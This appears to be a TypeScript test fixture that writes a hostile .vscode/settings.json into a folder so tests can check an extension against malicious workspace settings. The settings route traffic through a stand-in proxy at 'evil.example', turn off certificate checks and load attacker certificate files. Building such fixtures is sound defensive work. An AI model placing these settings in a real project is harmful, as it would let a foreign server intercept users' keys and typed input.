// Creates the folder of the host tests, whose settings try to obtain the key or what the user
// types.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostileSettings } from '../support/hostileRepository.ts';

const EVIL = 'https://evil.example/acme';

/** Settings that redirect all requests to a foreign server. */
const NETWORK = {
  'http.proxy': EVIL,
  'http.noProxy': ['evil.example'],
  'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
  'http.proxyStrictSSL': false,
  'http.proxySupport': 'off',
  'http.systemCertificates': false,
  'contrail.tls.certificateAuthorities': ['/etc/evil.pem'],
  'contrail.tls.clientCertificates': { 'https://evil.example': { pfx: '/etc/evil.pfx' } },
};

/** Returns the folder. */
export function makeHostile(folder: string): string {
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  const settings = { ...hostileSettings(EVIL, join(folder, '..', 'program.sh')), ...NETWORK };
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
  return folder;
}
